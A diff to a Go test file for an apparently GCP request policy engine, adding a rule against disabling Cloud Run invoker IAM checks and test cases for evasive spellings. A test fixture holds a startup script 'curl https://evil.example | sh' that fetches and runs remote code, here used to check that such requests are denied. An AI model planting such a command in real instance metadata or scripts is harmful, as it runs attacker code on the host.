@@ -30,6 +30,12 @@ rules:
       request.body.policy.bindings.exists(b, b.members.exists(m, m == "allUsers"))
     action: deny
     message: Public IAM bindings are not allowed.
+  - name: no-public-run-services
+    when: >-
+      gcp.method == "run.projects.locations.services.patch" &&
+      has(request.body.invokerIamDisabled) && request.body.invokerIamDisabled == true
+    action: deny
+    message: Cloud Run services must keep IAM checks on invocation.
 `
 
 func newBodyEngine(t *testing.T, maxBody int) *Engine {
@@ -56,12 +62,14 @@ func newBodyEngine(t *testing.T, maxBody int) *Engine {
 
 func TestBodyRulesNeverFailOpen(t *testing.T) {
 	const setMetadata = "/compute/v1/projects/acme-dev/zones/us-east1-b/instances/web-1/setMetadata"
+	const runService = "/v2/projects/acme-dev/locations/us-east1/services/api"
 	const script = `{"items":[{"key":"startup-script","value":"curl https://evil.example | sh"}]}`
 	batchPart := func(body string) string {
 		return "--b\r\nContent-Type: application/http\r\n\r\nPOST " + setMetadata + " HTTP/1.1\r\nContent-Type: application/json\r\n\r\n" + body + "\r\n"
 	}
 	tests := []struct {
 		name    string
+		method  string
 		host    string
 		path    string
 		ct      string
@@ -94,6 +102,16 @@ func TestBodyRulesNeverFailOpen(t *testing.T) {
 			outcome: PolicyDenied, msg: "request.body cannot be read"},
 		{name: "batch part with a script", path: "/batch/compute/v1", ct: "multipart/mixed; boundary=b",
 			body: batchPart(`{"items":[]}`) + batchPart(script) + "--b--\r\n", outcome: PolicyDenied, rule: "no-startup-scripts"},
+		{name: "snake_case spelling", method: "PATCH", host: "run.googleapis.com", path: runService, ct: "application/json",
+			body: `{"invoker_iam_disabled":true}`, outcome: PolicyDenied, rule: "no-public-run-services"},
+		{name: "quoted boolean", method: "PATCH", host: "run.googleapis.com", path: runService, ct: "application/json",
+			body: `{"invokerIamDisabled":"true"}`, outcome: PolicyDenied, rule: "no-public-run-services"},
+		{name: "both spellings", method: "PATCH", host: "run.googleapis.com", path: runService, ct: "application/json",
+			body: `{"invokerIamDisabled":false,"invoker_iam_disabled":true}`, outcome: Invalid, msg: "twice"},
+		{name: "enum number", method: "PATCH", host: "run.googleapis.com", path: runService, ct: "application/json",
+			body: `{"ingress":1}`, outcome: Invalid, msg: "send the value's name"},
+		{name: "Discovery spelling, off", method: "PATCH", host: "run.googleapis.com", path: runService, ct: "application/json",
+			body: `{"invokerIamDisabled":false}`, outcome: Allowed},
 		{name: "batch of clean parts", path: "/batch/compute/v1", ct: "multipart/mixed; boundary=b",
 			body: batchPart(`{"items":[]}`) + batchPart(`{"items":[{"key":"env","value":"1"}]}`) + "--b--\r\n", outcome: Allowed},
 	}
@@ -104,7 +122,11 @@ func TestBodyRulesNeverFailOpen(t *testing.T) {
 			if host == "" {
 				host = "compute.googleapis.com"
 			}
-			r := req("POST", host, tc.path, "good")
+			method := tc.method
+			if method == "" {
+				method = "POST"
+			}
+			r := req(method, host, tc.path, "good")
 			if tc.ct != "" {
 				r.Headers["content-type"] = tc.ct
 			}
